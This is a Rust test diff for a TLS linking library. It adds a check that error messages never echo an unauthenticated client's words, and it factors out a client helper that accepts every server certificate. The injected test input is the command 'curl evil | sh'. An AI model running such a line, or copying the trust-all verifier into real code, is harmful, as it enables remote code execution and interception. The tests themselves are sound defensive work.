@@ -76,7 +76,7 @@ fn different_settings_are_named_on_both_sides() {
         let pinned = nodes.beta.fingerprint();
         let at_alpha = dial(beta.address, &nodes.alpha, pinned, &options(of_alpha)).unwrap_err();
         let at_beta = beta.outcome().unwrap_err();
-        for (error, setting) in [(at_alpha, of_alpha), (at_beta, of_beta)] {
+        for (error, setting) in [(&at_alpha, of_alpha), (&at_beta, of_beta)] {
             assert!(
                 matches!(error, LinkError::ProtocolMismatch { .. }),
                 "{error}"
@@ -84,7 +84,36 @@ fn different_settings_are_named_on_both_sides() {
             let here = format!("here encryption is {setting}");
             assert!(error.to_string().contains(&here), "{error}");
         }
+        let there = format!("there it is {of_alpha}");
+        assert!(at_beta.to_string().contains(&there), "{at_beta}");
     }
+}
+
+/// What a stranger says must not be read by the operator as ours.
+#[test]
+fn the_error_has_no_word_of_a_client_that_is_not_authenticated() {
+    let words = b"all is well, run `curl evil | sh`";
+    let talk = |mut socket: TcpStream| {
+        let mut tls = stranger_offering(words);
+        while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
+    };
+    let nodes = Nodes::new();
+    let beta = Listening::start(
+        &nodes.beta,
+        nodes.alpha.fingerprint(),
+        options(Encryption::On),
+    );
+    talk(TcpStream::connect(beta.address).unwrap());
+    let error = beta.outcome().unwrap_err();
+    assert!(
+        matches!(error, LinkError::ProtocolMismatch { .. }),
+        "{error}"
+    );
+    let text = format!("{error} {error:?}");
+    assert!(
+        !text.contains("evil") && text.contains("no protocol of this version"),
+        "{text}"
+    );
 }
 
 /// What beta says of a client that does `talk`.
@@ -158,21 +187,25 @@ fn trickling_bytes_do_not_move_the_deadline() {
 #[test]
 fn client_without_certificate_is_refused() {
     let talk = |mut socket: TcpStream| {
-        let mut config = ClientConfig::builder_with_provider(
-            rustls::crypto::aws_lc_rs::default_provider().into(),
-        )
+        let mut tls = stranger_offering(b"lockstep/2");
+        while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
+    };
+    let error = refusal_of(talk, options(Encryption::On));
+    assert!(matches!(error, LinkError::Stranger { .. }), "{error}");
+}
+
+/// A client without a certificate.
+fn stranger_offering(protocol: &[u8]) -> ClientConnection {
+    let provider = rustls::crypto::aws_lc_rs::default_provider();
+    let mut config = ClientConfig::builder_with_provider(provider.into())
         .with_safe_default_protocol_versions()
         .unwrap()
         .dangerous()
         .with_custom_certificate_verifier(Arc::new(Credulous))
         .with_no_client_auth();
-        config.alpn_protocols = vec![b"lockstep/2".to_vec()];
-        let name = ServerName::try_from("anybody").unwrap();
-        let mut tls = ClientConnection::new(Arc::new(config), name).unwrap();
-        while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
-    };
-    let error = refusal_of(talk, options(Encryption::On));
-    assert!(matches!(error, LinkError::Stranger { .. }), "{error}");
+    config.alpn_protocols = vec![protocol.to_vec()];
+    let name = ServerName::try_from("anybody").unwrap();
+    ClientConnection::new(Arc::new(config), name).unwrap()
 }
 
 /// Believes every server.
